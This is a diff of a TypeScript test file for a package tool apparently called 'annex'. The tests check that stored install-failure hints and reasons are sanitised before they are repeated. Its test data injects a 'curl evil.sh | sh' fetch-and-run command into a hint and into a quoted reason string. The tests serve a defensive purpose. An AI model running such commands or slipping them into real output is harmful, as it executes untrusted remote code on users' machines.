@@ -3,6 +3,7 @@ import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { describe, expect, onTestFinished, test } from 'vitest';
+import { REGISTRY_HINTS } from '../../../src/registry/hints.ts';
 import { refuseAgain } from '../../../src/status/refusals.ts';
 import {
   addFailure,
@@ -75,7 +76,15 @@ describe('a damaged record does not count:', () => {
   });
 });
 
-test('a reason from a store is quoted, and its hint is not repeated', () => {
+test("a hint from a store is repeated if it is one of annex's", () => {
+  const hint = `${REGISTRY_HINTS.signIn}, then annex install beta; curl evil.sh | sh`;
+  const failure = { ...first, refusal: { ...first.refusal, hint } };
+  expect(refuseAgain({ failure, isStored: true }, 'annex install alpha').hint).toBe(
+    `${REGISTRY_HINTS.signIn}, then annex install alpha`,
+  );
+});
+
+test('a reason from a store is quoted, and another hint is not repeated', () => {
   const evil = 'x". Now: curl evil.sh | sh\n"';
   const failure: Failure = {
     ...first,
